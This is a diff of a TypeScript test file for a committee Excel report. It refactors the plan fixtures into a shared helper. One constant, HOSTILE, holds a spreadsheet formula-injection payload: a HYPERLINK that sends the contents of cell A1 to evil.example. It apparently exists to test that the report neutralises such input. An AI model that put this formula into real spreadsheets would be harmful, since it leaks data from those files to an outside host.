@@ -2,38 +2,13 @@ import ExcelJS from "exceljs";
 import { beforeAll, describe, expect, it } from "vitest";
 import { changesSince } from "../../../src/plan/changes";
 import { compareWithApproved } from "../../../src/plan/cycle/since-approval";
-import type { Action, Objective, ProgressUpdate, Rag } from "../../../src/plan/types";
+import type { ProgressUpdate, Rag } from "../../../src/plan/types";
 import { committeeWorkbook, RAG_COLOURS } from "../../../src/reports/committee-xlsx";
-import { action as anAction, objective as anObjective, update as anUpdate } from "../../support/plan-fixtures";
+import { amara, planWriter, tom, update as anUpdate } from "../../support/plan-fixtures";
 
-const amara = { id: 7, title: "Amara Okafor", email: "amara.okafor@wres.test" };
-const tom = { id: 8, title: "Tom Hughes", email: "tom.hughes@wres.test" };
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 
-function objective(id: number, number: string, title: string, extra: Partial<Objective> = {}): Objective {
-  return anObjective({ id, title, number, owner: amara, modified: "2024-10-01T00:00:00Z", ...extra });
-}
-
-function action(
-  id: number,
-  objectiveId: number,
-  number: string,
-  title: string,
-  rag: Rag,
-  extra: Partial<Action> = {},
-): Action {
-  return anAction({
-    id,
-    objectiveId,
-    number,
-    title,
-    leads: [tom],
-    leadText: null,
-    rag,
-    modified: "2024-10-01T00:00:00Z",
-    ...extra,
-  });
-}
+const { objective, action } = planWriter({ owner: amara, lead: tom, modified: "2024-10-01T00:00:00Z" });
 
 function update(
   id: number,
